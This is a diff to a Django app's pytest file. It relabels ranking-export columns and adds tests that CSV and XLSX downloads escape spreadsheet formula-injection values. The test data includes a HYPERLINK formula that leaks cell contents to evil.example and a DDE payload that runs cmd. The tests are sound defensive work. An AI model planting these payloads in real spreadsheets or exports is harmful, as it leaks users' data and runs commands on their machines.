@@ -11,6 +11,7 @@ import pytest
 from django.core.management import CommandError, call_command
 from django.utils import translation
 
+from accounts.models import City, GovAccount
 from rankings import exporting
 from rankings.models import ScoreRun
 from tests.rankings.factories import ScoreRunFactory, ScoringSchemeFactory, ranking_build, scheme_make_default
@@ -27,8 +28,8 @@ CITY_ROWS = [
 ]
 ACCOUNT_HEADER = [
     "rank in category", "account", "city", "province", "category", "score",
-    "Fans", "Fans (raw value)", "Posting activity", "Posting activity (raw value)",
-    "Reposts and comments", "Reposts and comments (raw value)", "flags", "reply rate",
+    "Fans", "Fans (expression value)", "Posting activity", "Posting activity (expression value)",
+    "Reposts and comments", "Reposts and comments (expression value)", "flags", "reply rate",
 ]
 
 
@@ -82,6 +83,17 @@ def test_the_account_table_lists_accounts_by_category_with_indicators_and_flags(
     assert [row[12:] for row in rows[1:]] == [
         ["", "0.25"], ["empty shell, inactive", ""], ["broadcast only", "0.0"], ["", "0.5"], ["", "0.125"],
     ]
+
+
+def test_the_account_tables_second_column_per_indicator_is_named_for_its_expressions_value_not_the_metric():
+    # 粉丝量's expression is log1p(fans): the column holds that value, so it must not claim the raw fans.
+    run = ranking_build()
+
+    with translation.override("zh-hans"):
+        header = list(exporting.account_ranking_frame(run=run).columns)
+
+    assert header[6:8] == ["粉丝量", "粉丝量（表达式值，归一化前）"]
+    assert not [column for column in header if "原始值" in column]
 
 
 def test_a_run_without_results_exports_just_the_header():
@@ -174,3 +186,74 @@ def test_a_default_scheme_without_a_published_ranking_is_an_error_in_chinese_by_
         call_command("export_ranking", "--period", "2012-13", stdout=io.StringIO())
 
     assert str(raised.value) == "统计周期“2012-13”中的月份超出范围"
+
+
+# --- formula injection (issue #8 item 1) ------------------------------------------------------------------
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
+    "\t=1+1", "\r=1+1",
+]
+
+
+def _hostile_ranking() -> ScoreRun:
+    """ranking_build's published run with every city (and province) and account renamed to a formula, and
+    a negative score."""
+    run = ranking_build(published=True)
+    for city, name in zip(City.objects.order_by("pk"), HOSTILE_NAMES, strict=False):
+        City.objects.filter(pk=city.pk).update(name=name, province=name[:32])
+    for account, name in zip(GovAccount.objects.order_by("pk"), HOSTILE_NAMES[2:], strict=False):
+        GovAccount.objects.filter(pk=account.pk).update(screen_name=name)
+    run.city_scores.filter(rank=3).update(score=-3.5)
+    return run
+
+
+def _download(client, run: ScoreRun, *, file_format: str, level: str) -> bytes:
+    response = client.get(f"/rankings/{run.pk}/", {"format": file_format, "level": level})
+    assert response.status_code == 200
+    return response.content
+
+
+@pytest.mark.parametrize("level", ["city", "account"])
+def test_a_csv_download_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(client, level):
+    run = _hostile_ranking()
+
+    rows = _csv_rows(_download(client, run, file_format="csv", level=level).decode("utf-8-sig"))
+
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    escaped = {cell for cell in cells if cell.startswith("'")}
+    names = {"'" + name for name in (HOSTILE_NAMES[:3] if level == "city" else HOSTILE_NAMES[2:7])}
+    assert names <= escaped
+    if level == "city":
+        assert rows[3][3] == "-3.5"  # a negative number stays a number
+
+
+@pytest.mark.parametrize("level", ["city", "account"])
+def test_an_xlsx_download_stores_names_as_escaped_text_never_as_formulas(client, level):
+    run = _hostile_ranking()
+
+    data = _download(client, run, file_format="xlsx", level=level)
+
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert "f" not in {cell.data_type for cell in cells}  # no formula
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    names = HOSTILE_NAMES[:3] if level == "city" else HOSTILE_NAMES[2:7]
+    # XML reads a carriage return back as a line feed.
+    assert {"'" + name.replace("\r", "\n") for name in names} <= texts
+    if level == "city":
+        assert sheet.cell(row=4, column=4).value == -3.5  # a negative number stays a number
+
+
+def test_a_scheme_label_that_looks_like_a_formula_is_escaped_in_the_header():
+    run = ranking_build()
+    document = run.document
+    document["indicators"][0]["label_en"] = "=1+1"
+    ScoreRun.objects.filter(pk=run.pk).update(document=document)
+    run.refresh_from_db()
+
+    with translation.override("en"):
+        header = _csv_rows(exporting.ranking_export(run=run, level="city", file_format="csv",
+                                                    bom=False).decode("utf-8"))[0]
+
+    assert "'=1+1" in header
